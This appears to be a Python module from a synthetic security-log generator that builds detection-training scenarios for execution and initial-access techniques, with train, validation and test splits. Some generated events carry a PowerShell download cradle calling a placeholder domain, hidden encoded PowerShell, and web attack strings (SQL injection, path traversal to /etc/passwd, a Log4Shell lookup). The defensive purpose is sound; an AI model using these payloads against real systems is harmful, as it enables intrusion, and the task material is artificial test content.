"""Execution and initial access: documents, scripts and downloads that run, and web sites under attack."""

from __future__ import annotations

import base64

from tasks.families.story import answer, choose_prober, launch, list_by_strength, write
from tasks.paths import BROWSERS, EXPLORER, POWERSHELL, SYSTEM32
from tasks.scene import ADDRESS, ALL, HOST, PROBE, TOOL, Family, Plan, Scene, TicketScope, actor


def document_shell(scene: Scene, plan: Plan) -> TicketScope:
    """Tell how a document or server program starts a shell that calls out."""
    tool = scene.pick(("powershell.exe", "mshta.exe", "rundll32.exe", "regsvr32.exe", "certutil.exe"))
    who, at = actor(scene, plan, tool), scene.moment(200)
    path = POWERSHELL if tool == "powershell.exe" else SYSTEM32 + tool
    parent = "C:\\Program Files\\Microsoft\\" + scene.pick(
        ("WINWORD.EXE", "EXCEL.EXE", "OUTLOOK.EXE", "w3wp.exe", "sqlservr.exe")
    )
    if plan.strength == "below":
        parent = EXPLORER
    script = f"-File C:\\Scripts\\{scene.word()}.ps1" if path == POWERSHELL else f"{SYSTEM32}{scene.word()}.dat"
    launch(scene, at, who, path, f"{tool} {script}", parent)
    return who.scope(tool, at, answer(scene, at, who, path, plan))


def _encode(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def encoded_script(scene: Scene, plan: Plan) -> TicketScope:
    """Tell how PowerShell decodes or downloads the code that it runs."""
    who, at = actor(scene, plan, "powershell.exe"), scene.moment(200)
    harmless = plan.strength == "below"
    if scene.chance(0.5):
        code = _encode(f"{scene.word()} {scene.word()} {scene.word()}")
        order = f"-File C:\\Scripts\\{scene.word()}.ps1" if harmless else f"-W Hidden -enc {code}"
        launch(scene, at, who, POWERSHELL, f"powershell.exe -NoProfile {order}")
    else:
        text = (
            f"Get-ChildItem D:\\{scene.word()} | Export-Csv report.csv"
            if harmless
            else f"IEX (New-Object Net.WebClient).DownloadString('http://{scene.domain()}/a')"
        )
        scene.add(at, "script", "block", who.host, who.user, script_text=text)
    return who.scope("powershell.exe", at, answer(scene, at, who, POWERSHELL, plan))


def dropped_program(scene: Scene, plan: Plan) -> TicketScope:
    """Tell how a downloaded program starts and calls out; in the harmless strength, another program starts."""
    who, at = actor(scene, plan), scene.moment(700)
    path = scene.writable_path(who.user)
    parent = scene.pick((*BROWSERS[:2], SYSTEM32 + "msiexec.exe"))
    write(scene, at, who, path, parent)
    if plan.strength == "below":
        path = scene.writable_path(who.user)
    start = launch(scene, at + scene.between(20, 400), who, path, f'"{path}"')
    return who.scope(path, at, answer(scene, start, who, path, plan))


def named_malware(scene: Scene, plan: Plan) -> TicketScope:
    """Tell how another product names malware that it found in a file."""
    who, at = actor(scene, plan), scene.moment(300)
    path = scene.writable_path(who.user)
    title = scene.pick(("Trojan:Win32/Wacatac", "HackTool:Win32/Keygen", "Backdoor:Win32/Bladabindi"))
    grave, mild = scene.pick(("high", "severe")), scene.pick(("low", "medium"))
    activity, severity = "malware", grave if plan.strength == "confirmed" else mild
    if plan.strength == "below":
        activity, severity = "ids_notice", scene.pick(("informational", mild))
        title = scene.pick(("Policy: file sharing", "Old archive format", "Macro without a signature"))
    write(scene, at, who, path, scene.pick(BROWSERS))
    last = scene.add(
        at + scene.between(1, 200),
        "detection",
        activity,
        who.host,
        who.user,
        finding_title=title,
        severity=severity,
        file_path=path,
    )
    return who.scope(path, at, last)


# ---------------------------------------------------------------- initial access
def attacked_site(scene: Scene, plan: Plan) -> TicketScope:
    """Tell how somebody attacks a web application; in the harmless strength, every odd request has another visitor."""
    name, ip, source = choose_prober(scene, plan)
    first = last = scene.moment(500)
    for _ in range(scene.between(5, 8)):
        page = scene.word()
        url = scene.pick(
            (
                f"/{page}?id=1' or 1=1--",
                f"/{page}?q=1 UNION ALL SELECT user",
                f"/{page}/../../../../etc/passwd",
                f"/{page}?x=${{jndi:ldap://{page}}}",
                "/.env?",
            )
        )
        last = scene.add(
            last + scene.between(5, 50),
            "http",
            "request",
            name,
            url=url,
            http_method=scene.pick(("GET", "POST")),
            status_code=scene.pick((200, 403, 404, 500)),
            user_agent=scene.pick(("Mozilla/5.0", "curl/8.5", "python-requests/2.31")),
            src_ip=scene.public_address() if plan.strength == "below" else source,
            dst_ip=ip,
        )
    return TicketScope((name,), "", "", first, last)


def listed_download(scene: Scene, plan: Plan) -> TicketScope:
    """Tell how a browser looks up a site that intelligence lists, and fetches from it."""
    who, at = actor(scene, plan), scene.moment(300)
    domain, remote, program = scene.domain(), scene.public_address(), scene.pick(BROWSERS)
    list_by_strength(scene, domain, plan)
    scene.add(
        at,
        "dns_query",
        "query",
        who.host,
        who.user,
        query_hostname=domain,
        answers=remote,
        src_ip=who.ip,
        process_path=program,
    )
    last = at
    for _ in range(scene.between(1, 4)):
        last = scene.add(
            last + scene.between(1, 40),
            "http",
            "request",
            who.host,
            who.user,
            url=f"http://{domain}/{scene.word()}",
            http_method="GET",
            status_code=scene.pick((200, 200, 404)),
            user_agent="Mozilla/5.0",
            src_ip=who.ip,
            dst_ip=remote,
        )
    return who.scope(program, at, last)


FAMILIES = (
    Family(
        "document_shell",
        "T1059",
        "execution",
        document_shell,
        HOST,
        explanations=TOOL,
        rules=("application-spawns-shell",),
        split="val_family",
    ),
    Family(
        "encoded_script",
        "T1059.001",
        "execution",
        encoded_script,
        HOST,
        explanations=TOOL,
        rules=("download-cradle", "hidden-powershell"),
    ),
    Family("dropped_program", "T1204.002", "execution", dropped_program, HOST, rules=("dropped-program-runs",)),
    Family("named_malware", "T1204", "execution", named_malware, HOST, single=True, rules=("product-detection",)),
    Family(
        "attacked_site",
        "T1190",
        "initial_access",
        attacked_site,
        ADDRESS,
        ALL,
        PROBE,
        names_account=False,
        rules=("web-attack",),
        platform="network",
        split="test_family",
    ),
    Family(
        "listed_download",
        "T1189",
        "initial_access",
        listed_download,
        ADDRESS,
        single=True,
        rules=("known-bad-address",),
        platform="network",
    ),
)
